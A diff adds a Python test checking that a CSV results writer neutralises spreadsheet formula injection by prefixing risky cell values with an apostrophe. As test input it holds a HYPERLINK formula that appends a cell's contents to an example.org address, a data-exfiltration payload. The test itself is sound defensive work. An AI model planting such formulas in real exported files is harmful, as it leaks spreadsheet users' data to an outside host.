@@ -121,3 +121,17 @@ def test_nothing_is_compared_where_nothing_came_out() -> None:
     found = comparison.compare(grid({"1": [None]}))
     assert found.settings == [] and found.best is None
     assert comparison.compare([]).rows == []
+
+
+def test_no_cell_of_the_table_is_a_formula(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://example.org/?"&A1,"open")'
+    rows = [
+        Row(formula, "failed", {formula: "@x"}, 0, None, "+folder", "\tit broke", "-log"),
+        Row("1", "failed", {formula: " =1+1"}, 0, None, "-1.5", "\uff1d1", "logs/1.log"),
+    ]
+    comparison.write_csv(rows, tmp_path / "results.csv")
+    with (tmp_path / "results.csv").open(newline="", encoding="utf-8") as file:
+        header, first, second = csv.reader(file)
+    assert header[2] == f"'{formula}"
+    assert first == [f"'{formula}", "failed", "'@x", "", "'+folder", "'\tit broke", "'-log"]
+    assert second == ["1", "failed", "' =1+1", "", "-1.5", "'\uff1d1", "logs/1.log"]
